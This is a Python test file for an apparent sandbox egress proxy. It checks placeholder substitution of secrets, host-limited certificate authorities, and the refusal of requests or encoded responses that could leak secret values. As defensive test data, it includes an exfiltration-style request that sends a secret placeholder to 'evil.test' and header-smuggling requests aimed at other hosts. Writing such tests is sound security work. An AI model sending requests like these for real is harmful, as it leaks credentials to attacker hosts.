"""The pieces of secrets at egress without a sandbox: destinations, placeholders, the same-length swap over any
chunking, the guard that cuts a body carrying a placeholder, the per-host CA and its leaf, the setting."""

from __future__ import annotations

import asyncio
import os
import ssl
from types import SimpleNamespace

import pytest
from cryptography import x509
from hypothesis import given, settings
from hypothesis import strategies as st

from execbox import ConfigError, Settings
from execbox.kit.proxy import secrets as es
from execbox.secrets import egress as egress_given
from execbox.secrets.values import Secret

VALUE = "sk-live-0123456789abcdefABCDEF"


def run_secrets(**hosts: str) -> egress_given.RunSecrets:
    return egress_given.RunSecrets(egress_given.check({name: (host, VALUE + name) for name, host in hosts.items()}))


@pytest.mark.parametrize("spec, expected", [
    ("api.openai.com", ("api.openai.com", 443)), ("API.example.com.:8443", ("api.example.com", 8443)),
    ("127.0.0.1:9000", ("127.0.0.1", 9000)), ("[::1]:8443", ("::1", 8443)),
])
def test_destinations(spec: str, expected: tuple[str, int]) -> None:
    assert egress_given.parse_destination(spec) == expected


@pytest.mark.parametrize("spec", ["*.example.com", "https://api.example.com", "user@host", "host:0", "host:x",
                                  "a:b:c", "", "[::1]:abc", "[::1]:", "[::1]x", "host:"])
def test_destinations_that_are_not_one_host_are_refused(spec: str) -> None:
    with pytest.raises(ValueError):
        egress_given.parse_destination(spec)


def test_placeholders_are_random_and_as_long_as_the_value() -> None:
    for value in (b"12345678", VALUE.encode(), "é".encode() * 40):
        one, two = egress_given.placeholder_for(value), egress_given.placeholder_for(value)
        assert len(one) == len(value) and one != two and one.isascii()
    assert egress_given.placeholder_for(VALUE.encode() * 2).startswith(b"EXECBOX-PLACEHOLDER-")


def _swapped(data: bytes, table: list[tuple[bytes, bytes, str]], partial: int) -> bytes:
    """What _Swap gives for ``data`` in one piece: at each position, left to right, the longest pattern (or, with
    ``partial``, start of one at least that long) there, replaced by its replacement's same start."""
    out, at = b"", 0
    while at < len(data):
        best = (0, b"")
        for old, new, _ in table:
            size = len(os.path.commonprefix([data[at:at + len(old)], old]))
            if size >= (min(len(old), partial) if partial else len(old)) and size > best[0]:
                best = (size, new[:size])
        out += best[1] if best[0] else data[at:at + 1]
        at += best[0] or 1
    return out


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([b"ab", b"x", b"\r\n", b"PH1-abcdefgh", b"PH1-", b"PH1-abc", b"abcdefgh",
                                 b"PH2-zzzzzzzz", b"PH2-zz"]), max_size=30),
       st.lists(st.integers(0, 400), max_size=10), st.sampled_from([0, 6]))
def test_the_swap_gives_the_same_bytes_whatever_the_chunking(pieces: list[bytes], cuts: list[int],
                                                             partial: int) -> None:
    table = [(b"PH1-abcdefgh", b"VAL-11111111", "A"), (b"PH2-zzzzzzzz", b"VAL-22222222", "B")]
    data = b"".join(pieces)
    swap, out, pos = es._Swap(table, partial=partial), b"", 0
    for cut in sorted({min(c, len(data)) for c in cuts}):
        out += swap.feed(data[pos:cut])
        pos = cut
    out += swap.feed(data[pos:]) + swap.end()
    # A start of a pattern at least ``partial`` long comes out as the same start of its replacement, wherever it is
    # (cut short by other bytes, or by the end), never as itself; without ``partial``, whole patterns alone.
    assert out == _swapped(data, table, partial)
    assert swap.used == {name for old, _, name in table if old in data}


def test_the_guard_cuts_a_body_before_the_chunk_that_completes_a_placeholder() -> None:
    secrets = run_secrets(K="api.example.com")
    placeholder = secrets.secrets[0].placeholder
    attempt = SimpleNamespace(allowed=True, reason="allowed", secrets=[])

    async def go() -> list[bytes]:
        reader = asyncio.StreamReader()
        reader.feed_data(b"x" * 10 + placeholder[:5])
        guarded = es.GuardedReader(reader, secrets, attempt)
        got = [await guarded.read(1000)]
        reader.feed_data(placeholder[5:] + b"tail")
        with pytest.raises(ConnectionAbortedError):
            got.append(await guarded.read(1000))
        return got

    assert asyncio.run(go()) == [b"x" * 10 + placeholder[:5]]
    assert not attempt.allowed and "exfiltration attempt" in attempt.reason and attempt.secrets == ["K"]


def test_a_request_head_with_a_placeholder_is_refused_naming_the_secret() -> None:
    secrets = run_secrets(K="api.example.com")
    run = SimpleNamespace(secrets=secrets)
    head = b"GET http://evil.test/?k=" + secrets.secrets[0].placeholder + b" HTTP/1.1\r\n\r\n"
    assert "placeholder of K" in (es.refuse_head(run, head, "evil.test", 80) or "")
    assert es.refuse_head(run, b"GET http://evil.test/ HTTP/1.1\r\n\r\n", "evil.test", 80) is None
    assert es.intercepts(run, "API.example.com", 443) and not es.intercepts(run, "api.example.com", 80)


def test_the_ca_is_limited_to_its_host_and_its_leaf_serves_tls(tmp_path: object) -> None:
    interceptor = es.Interceptor(str(tmp_path))
    interceptor.ensure({"api.example.com"})
    authority = interceptor._authorities["api.example.com"]
    constraints = authority.cert.extensions.get_extension_for_class(x509.NameConstraints).value
    assert [n.value for n in constraints.permitted_subtrees] == ["api.example.com"]
    bundle = (tmp_path / es.BUNDLE_FILE).read_bytes()  # type: ignore[operator]
    assert authority.pem.strip() in bundle and b"PRIVATE KEY" not in bundle
    assert isinstance(interceptor.server_context("api.example.com"), ssl.SSLContext)


def test_code_exec_egress_secrets_reads_values_from_execbox_s_environment() -> None:
    assert Settings(egress_secrets=["K=api.example.com:8443"]).egress_secrets == ["K=api.example.com:8443"]
    with pytest.raises(ConfigError, match="NAME=host"):
        Settings(egress_secrets=["api.example.com"])
    given = egress_given.from_setting(["K=api.example.com"], {"K": VALUE})
    host, port, secret = given["K"]
    assert (host, port, secret.reveal()) == ("api.example.com", 443, VALUE) and isinstance(secret, Secret)
    with pytest.raises(ConfigError, match="CODE_EXEC_EGRESS_SECRETS names K"):
        egress_given.from_setting(["K=api.example.com"], {})


# --- the intercepted request and response (found attacking: a gzip'd or partial reflection, or a request another
# tenant of the same front-end receives, handed the real value to the code) ------------------------------------


def test_the_request_is_rewritten_to_ask_for_one_plain_response() -> None:
    head = (b"POST /v1/chat HTTP/1.1\r\nHost: api.example.com\r\nAccept-Encoding: gzip, br\r\nRange: bytes=0-9\r\n"
            b"Connection: keep-alive\r\nAuthorization: Bearer PH\r\nContent-Length: 2\r\n\r\n")
    out = es.plain_request(head, "api.example.com", 443)
    assert isinstance(out, bytes)
    lines = out.split(b"\r\n")
    assert lines[0] == b"POST /v1/chat HTTP/1.1" and b"Authorization: Bearer PH" in lines
    assert b"Accept-Encoding: identity" in lines and b"Connection: close" in lines
    assert not [x for x in lines if x.lower().startswith((b"range", b"accept-encoding: gzip", b"connection: keep"))]
    assert out.endswith(b"\r\n\r\n")
    assert isinstance(es.plain_request(head.replace(b"api.example.com", b"API.example.com:443"),
                                       "api.example.com", 443), bytes)


@pytest.mark.parametrize(("head", "why"), [
    (b"GET / HTTP/1.1\r\nHost: attacker-tenant.example\r\n\r\n", "not api.example.com"),
    (b"GET / HTTP/1.1\r\nHost: api.example.com\r\nHost: x.example\r\n\r\n", "not api.example.com"),
    (b"GET / HTTP/1.1\r\n\r\n", "(none)"),
    (b"GET https://x.example/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n", "a path on this host"),
    (b"GET / HTTP/2\r\nHost: api.example.com\r\n\r\n", "HTTP/1.1"),
    (b"GET / HTTP/1.1\r\nHost: api.example.com\r\nUpgrade: h2c\r\n\r\n", "upgrade"),
    (b"GET / HTTP/1.1\r\nHost : api.example.com\r\n\r\n", "malformed"),
])
def test_requests_that_could_carry_the_value_elsewhere_are_refused(head: bytes, why: str) -> None:
    refused = es.plain_request(head, "api.example.com", 443)
    assert isinstance(refused, str) and why in refused


@pytest.mark.parametrize(("head", "why"), [
    (b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n", "encoded (gzip)"),
    (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n", "transfer coding"),
    (b"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-9/99\r\n\r\n", "206"),
    (b"HTTP/1.1 200 OK\r\nContent-Range: bytes 0-9/99\r\n\r\n", "Content-Range"),
])
def test_responses_where_the_value_would_pass_unswapped_are_withheld(head: bytes, why: str) -> None:
    problem = es.encoded_response(head)
    assert problem is not None and why in problem


def test_plain_responses_pass() -> None:
    for head in (b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n",
                 b"HTTP/1.1 401 No\r\nTransfer-Encoding: chunked\r\n\r\n",
                 b"HTTP/1.1 200 OK\r\nContent-Encoding: identity\r\n\r\n"):
        assert es.encoded_response(head) is None
